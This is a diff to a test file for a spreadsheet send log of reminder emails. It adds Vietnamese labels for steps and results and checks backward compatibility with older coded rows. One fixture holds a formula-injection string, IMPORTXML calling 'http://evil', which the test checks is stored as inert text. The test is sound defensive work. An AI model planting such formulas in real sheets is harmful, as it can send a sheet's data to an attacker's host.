@@ -17,8 +17,27 @@ describe('the send log', () => {
   });
 
   test('a row is written in LOG_COLUMNS order, with Vietnamese results and formula-like text kept as text', () => {
-    expect(logRow(entries[1])).toEqual([entries[1].at, 'H-623', '', '03', '07/2024', 'D-2', 'Bỏ qua', `'=IMPORTXML("http://evil","//a")`]);
+    expect(logRow(entries[1])).toEqual([entries[1].at, 'H-623', '', '03', '07/2024', '2 ngày trước hạn', 'Bỏ qua', `'=IMPORTXML("http://evil","//a")`]);
     expect(logRow(entries[0])[6]).toBe('Đã gửi');
+    expect(logRow(entries[2])[5]).toBe('1 ngày sau hạn');
+  });
+
+  test('steps, results and details are written in Vietnamese and read back as their codes', () => {
+    const skip: LogEntry = { ...entries[1], detail: 'reported' };
+    const sent: LogEntry = { ...entries[0], step: 'D-7', detail: 'overdue' };
+    expect(logRow(skip).slice(5)).toEqual(['2 ngày trước hạn', 'Bỏ qua', 'Đã báo cáo']);
+    expect(logRow(sent).slice(5)).toEqual(['7 ngày trước hạn', 'Đã gửi', 'Email nhắc quá hạn']);
+    expect(readLog([[...LOG_COLUMNS], logRow(skip), logRow(sent)])).toEqual([skip, sent]);
+    // A daily job's failure keeps the job's name in `Bước`.
+    const failure: LogEntry = { ...entries[0], unit: '', form: '', period: '', step: 'Kiểm tra toàn bộ', result: 'error', detail: 'x' };
+    expect(logRow(failure)[5]).toBe('Kiểm tra toàn bộ');
+  });
+
+  test('the older D-7 entries of real logs still read, and still count as sent', () => {
+    const old = [[...LOG_COLUMNS], [entries[0].at, 'H-622', 'a@x.vn', '03', '07/2024', 'D-7', 'Đã gửi', 'reminder'], [entries[0].at, 'H-623', 'b@x.vn', '03', '07/2024', '7 ngày trước hạn', 'Đã gửi', 'Email nhắc trước hạn']];
+    const log = readLog(old);
+    expect(log.map((e) => [e.step, e.detail])).toEqual([['D-7', 'reminder'], ['D-7', 'reminder']]);
+    expect(log.map(sendKey)).toEqual(['03|H-622|07/2024|D-7', '03|H-623|07/2024|D-7']);
   });
 
   test('reading is tolerant: columns found by header, sheet-converted form and period read, bad rows ignored', () => {
